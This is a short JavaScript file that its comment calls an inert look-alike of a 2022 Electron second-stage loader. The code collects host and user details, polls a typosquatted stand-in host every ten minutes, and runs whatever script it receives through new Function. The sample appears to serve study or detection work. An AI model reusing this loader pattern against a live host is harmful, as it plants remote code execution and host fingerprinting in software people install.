// Inert look-alike of the 2022 second-stage loader: it would fetch a script
// from a look-alike of the vendor's domain (lantemly, rn -> m) and run it
// with the host's details. The host is under the reserved .example TLD and
// never resolves, so nothing is ever fetched or run.
(function () {
  const os = require('os');
  const https = require('https');
  const { app } = require('electron');
  const info = { host: os.hostname(), user: os.userInfo().username, domain: process.env.USERDOMAIN || '' };
  function pull() {
    https.get('https://cdn.lantemly.example/desk/v3/runtime-config.js', { headers: { 'User-Agent': 'Mozilla/5.0' } }, (res) => {
      let body = '';
      res.on('data', (d) => { body += d; });
      res.on('end', () => {
        if (res.statusCode === 200) new Function('require', 'process', 'info', body)(require, process, info);
      });
    }).on('error', () => {});
  }
  app.whenReady().then(() => { pull(); setInterval(pull, 600000); });
})();
